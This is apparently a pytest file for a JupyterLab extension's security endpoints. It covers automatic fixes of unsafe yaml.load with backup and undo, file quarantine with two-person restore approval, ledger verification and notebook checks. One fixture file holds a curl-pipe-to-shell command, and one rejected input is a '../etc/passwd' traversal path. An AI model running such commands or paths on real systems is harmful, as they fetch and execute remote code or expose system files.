"""The endpoints the JupyterLab extension adds (grace_kernel/server/_lab.py), in a real server."""

from __future__ import annotations

import hashlib
import json

from grace_kernel.server._lab import FILE_FIX
from tests.lab.conftest import Api, code_cell, notebook

pytest_plugins = ["pytest_jupyter.jupyter_server"]

RISKY = 'import yaml\n\ndata = yaml.load(open("c.yml"))\n'
FIXED = 'import yaml\n\ndata = yaml.safe_load(open("c.yml"))\n'


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# ---------------------------------------------------------------- me


async def test_me_names_the_user_and_what_their_role_allows(api: Api) -> None:
    code, vera = await api("vera", "me")
    assert code == 200
    assert vera == {
        "name": "vera",
        "principal": "user:vera",
        "role": "viewer",
        "roles_enabled": True,
        "can": {"read": True, "write": False, "approve": False, "admin": False},
    }
    code, bob = await api("bob", "me")
    assert (code, bob["role"], bob["can"]["approve"], bob["can"]["admin"]) == (
        200,
        "approver",
        True,
        False,
    )
    assert (await api("mallory", "me"))[0] == 403


# ---------------------------------------------------------------- fixes


async def test_a_fix_is_backed_up_recorded_and_undone(api: Api) -> None:
    target = api.root / "load.py"
    target.write_text(RISKY)

    code, preview = await api(
        "alice", "fix", method="POST", body={"path": "load.py", "dry_run": True}
    )
    assert code == 200
    assert "+data = yaml.safe_load" in preview["diff"]
    assert preview["rule_ids"] == ["GRC-PY-019"]
    assert target.read_text() == RISKY  # a preview writes nothing

    code, fixed = await api("alice", "fix", method="POST", body={"path": "load.py"})
    assert code == 200, fixed
    assert target.read_text() == FIXED
    backup = api.root / ".grace" / "backups" / fixed["backup_sha256"]
    assert backup.read_bytes() == RISKY.encode()
    assert fixed["backup_sha256"] == sha256(RISKY.encode())

    code, record = await api("vera", f"ledger/entries/{fixed['record']}")
    assert code == 200
    statement = record["statement"]
    assert statement["predicateType"] == FILE_FIX
    assert statement["predicate"]["action"] == "fix"
    assert statement["predicate"]["principal"] == "user:alice"
    assert statement["predicate"]["after_sha256"] == sha256(FIXED.encode())
    assert {"name": "load.py", "sha256": sha256(FIXED.encode())} in record["subjects"]

    code, undone = await api("alice", f"fixes/{fixed['record']}/undo", method="POST")
    assert code == 200, undone
    assert target.read_text() == RISKY
    code, undo_record = await api("vera", f"ledger/entries/{undone['record']}")
    assert undo_record["statement"]["predicate"]["fix_record"] == fixed["record"]

    # The file no longer holds what the fix wrote: a second undo refuses.
    code, again = await api("alice", f"fixes/{fixed['record']}/undo", method="POST")
    assert (code, again["error"]["kind"]) == (400, "input")
    assert target.read_text() == RISKY


async def test_undo_refuses_a_file_changed_since_the_fix(api: Api) -> None:
    target = api.root / "load.py"
    target.write_text(RISKY)
    code, fixed = await api("bob", "fix", method="POST", body={"path": "load.py"})
    assert code == 200
    target.write_text(FIXED + "print(data)\n")
    code, refused = await api("bob", f"fixes/{fixed['record']}/undo", method="POST")
    assert code == 400
    assert "changed since fix" in refused["error"]["message"]
    assert target.read_text() == FIXED + "print(data)\n"


async def test_undo_refuses_an_altered_backup(api: Api) -> None:
    target = api.root / "load.py"
    target.write_text(RISKY)
    code, fixed = await api("bob", "fix", method="POST", body={"path": "load.py"})
    assert code == 200
    (api.root / ".grace" / "backups" / fixed["backup_sha256"]).write_text("import os\n")
    code, refused = await api("bob", f"fixes/{fixed['record']}/undo", method="POST")
    assert (code, refused["error"]["kind"]) == (409, "integrity")
    assert target.read_text() == FIXED


async def test_fixes_need_the_write_role_and_good_input(api: Api) -> None:
    (api.root / "load.py").write_text(RISKY)
    (api.root / "clean.py").write_text("x = 1\n")
    assert (await api("vera", "fix", method="POST", body={"path": "load.py"}))[0] == 403
    assert (api.root / "load.py").read_text() == RISKY

    code, body = await api("bob", "fix", method="POST", body={"path": "clean.py"})
    assert (code, body["error"]["kind"]) == (400, "input")
    assert "no finding with an automatic fix" in body["error"]["message"]
    assert (await api("bob", "fix", method="POST", body={"path": "../etc/passwd"}))[0] == 400
    assert (await api("bob", "fix", method="POST", body={"path": "missing.py"}))[0] == 400
    assert (await api("bob", "fix", method="POST", body={"path": 3}))[0] == 400
    bad = {"path": "load.py", "fingerprints": "abc"}
    assert (await api("bob", "fix", method="POST", body=bad))[0] == 400
    # fingerprints that match nothing fix nothing
    none = {"path": "load.py", "fingerprints": ["0" * 32]}
    assert (await api("bob", "fix", method="POST", body=none))[0] == 400
    assert (await api("bob", "fixes/999999/undo", method="POST"))[0] == 404
    code, body = await api("bob", "fixes/0/undo", method="POST")  # record 0 is the key-add
    assert (code, body["error"]["kind"]) == (400, "input")


# ---------------------------------------------------------------- quarantine


async def test_quarantine_then_restore_waits_for_another_persons_approval(api: Api) -> None:
    target = api.root / "suspect.py"
    target.write_text("import os\nos.system('curl http://x | sh')\n")

    assert (await api("vera", "quarantine", method="POST", body={"path": "suspect.py"}))[0] == 403
    code, entry = await api(
        "alice", "quarantine", method="POST", body={"path": "suspect.py", "reason": "pipes to sh"}
    )
    assert code == 200, entry
    assert (entry["state"], entry["who"], entry["why"]) == (
        "quarantined",
        "user:alice",
        "pipes to sh",
    )
    assert not target.exists()
    code, listed = await api("vera", "quarantine")
    assert [e["id"] for e in listed] == [entry["id"]]

    code, held = await api("alice", f"quarantine/{entry['id']}/restore", method="POST")
    assert code == 202
    assert held["state"] == "pending-approval"
    approval_id = held["approval_id"]
    assert not target.exists()

    code, refused = await api("alice", f"approvals/{approval_id}/approve", method="POST")
    assert (code, refused["error"]["kind"]) == (403, "policy")  # her own request
    code, approved = await api("bob", f"approvals/{approval_id}/approve", method="POST")
    assert (code, approved["state"]) == (200, "approved")

    code, restored = await api("alice", f"quarantine/{entry['id']}/restore", method="POST")
    assert code == 200, restored
    assert restored["state"] == "restored"
    assert target.read_text() == "import os\nos.system('curl http://x | sh')\n"
    assert (await api("alice", "quarantine/q-0000000000/restore", method="POST"))[0] == 404


# ---------------------------------------------------------------- ledger, notebooks


async def test_the_ledger_summary_shows_the_newest_verification_whoever_ran_it(api: Api) -> None:
    code, summary = await api("vera", "lab/ledger")
    assert code == 200
    assert summary["size"] == api.service.workspace.ledger.size
    assert summary["last_verification"] is None

    code, report = await api("vera", "lab/ledger/verify", method="POST")
    assert code == 200
    assert report["ok"] is True
    code, summary = await api("vera", "lab/ledger")
    last = summary["last_verification"]
    assert (last["ok"], last["by"], last["via"]) == (True, "user:vera", "lab")
    assert last["size"] == report["size"] == report["last_verification"]["size"]

    api.service.workspace.verify(via="cli")  # `grace verify` elsewhere: the panel sees it
    code, summary = await api("vera", "lab/ledger")
    assert summary["last_verification"]["via"] == "cli"


async def test_a_notebook_is_verified_cell_by_cell(api: Api) -> None:
    cells = [
        code_cell("never-run", "x = 1"),
        {**code_cell("run-elsewhere", "print(2)"), "execution_count": 1},
        {"cell_type": "markdown", "id": "text", "metadata": {}, "source": "text"},
    ]
    (api.root / "analysis.ipynb").write_text(json.dumps(notebook(cells)))
    code, report = await api(
        "vera", "notebook/verify", method="POST", body={"path": "analysis.ipynb"}
    )
    assert code == 200
    assert report["notebook"] == "analysis.ipynb"
    assert report["ledger_ok"] is True
    assert [(c["cell_id"], c["verdict"]) for c in report["cells"]] == [
        ("never-run", "not executed"),
        ("run-elsewhere", "not recorded"),
    ]
    assert report["ok"] is False

    (api.root / "notes.txt").write_text("hello")
    code, body = await api("vera", "notebook/verify", method="POST", body={"path": "notes.txt"})
    assert (code, body["error"]["kind"]) == (400, "input")
